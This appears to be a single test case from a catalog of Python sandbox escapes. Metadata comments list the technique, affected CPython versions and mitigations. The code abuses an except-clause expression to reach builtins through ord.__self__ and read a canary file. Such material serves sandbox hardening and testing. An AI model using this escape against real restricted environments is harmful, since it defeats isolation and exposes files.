# id: except-clause-expression
# family: syntax-and-filters
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: the class of an except clause is an arbitrary expression that runs while an exception is on its way
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

try:
    raise LookupError
except (print(ord.__self__.open("canary.txt").read()), LookupError)[1]:
    pass
